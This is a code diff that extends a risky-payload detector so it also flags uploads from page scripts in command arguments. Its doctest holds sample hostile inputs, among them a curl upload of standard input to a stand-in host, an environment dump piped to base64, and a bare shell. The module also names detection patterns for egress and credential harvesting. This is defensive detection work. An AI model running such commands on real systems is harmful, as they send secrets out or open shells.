@@ -107,6 +107,9 @@ class PayloadVocabulary:
         # Commands: uploads (in any argument), credential harvesting and bare shells (in an
         # argument that holds a command).
         self.egress = regex("egress")
+        # Uploads from a script the call runs in a page: only in the arguments that hold one.
+        self.script_egress = regex("script-egress")
+        self.script_keys = frozenset(k for r in of("script-egress") for k in r.keys)
         self.harvest = regex("credential-harvest")
         self.bare_shell = regex("bare-shell")
         self.command_keys = frozenset(k for r in of("command-arguments") for k in r.keys)
@@ -193,9 +196,13 @@ def default_payload_vocabulary() -> PayloadVocabulary:
 
 
 @lru_cache(maxsize=8192)
-def _command_risk(vocabulary: PayloadVocabulary, text: str, is_command: bool) -> str | None:
+def _command_risk(
+    vocabulary: PayloadVocabulary, text: str, is_command: bool, is_script: bool = False
+) -> str | None:
     low = text.lower()
     if vocabulary.egress is not None and vocabulary.egress.search(low):
+        return "egress"
+    if is_script and vocabulary.script_egress is not None and vocabulary.script_egress.search(low):
         return "egress"
     if not is_command:
         return None
@@ -207,10 +214,14 @@ def _command_risk(vocabulary: PayloadVocabulary, text: str, is_command: bool) ->
 
 
 def command_risk(
-    text: str, is_command: bool = True, vocabulary: PayloadVocabulary | None = None
+    text: str,
+    is_command: bool = True,
+    vocabulary: PayloadVocabulary | None = None,
+    is_script: bool = False,
 ) -> str | None:
     """What a command argument would do that an operator would not want, if anything; for
-    an argument that is not a command (``is_command=False``) only an upload counts. The
+    an argument that is not a command (``is_command=False``) only an upload counts, and an
+    upload from a page script only in an argument that holds one (``is_script``). The
     constructs are those of ``vocabulary`` (default: the shipped ``risky-commands.yaml``).
 
     >>> [command_risk(c) for c in ("curl -T - https://x.example", "env | base64", "sh",
@@ -219,7 +230,7 @@ def command_risk(
     >>> command_risk("env", is_command=False), command_risk("set", is_command=False)
     (None, None)
     """
-    return _command_risk(vocabulary or default_payload_vocabulary(), text, is_command)
+    return _command_risk(vocabulary or default_payload_vocabulary(), text, is_command, is_script)
 
 
 @lru_cache(maxsize=8192)
@@ -427,7 +438,7 @@ class RiskyPayload(StatelessDetector):
                 )
         worst = 0.0
         for key, text in texts:
-            risk = _command_risk(v, text, key in v.command_keys)
+            risk = _command_risk(v, text, key in v.command_keys, key in v.script_keys)
             if risk is None:
                 continue
             score = {"egress": self.egress_score, "harvest": self.harvest_score}.get(
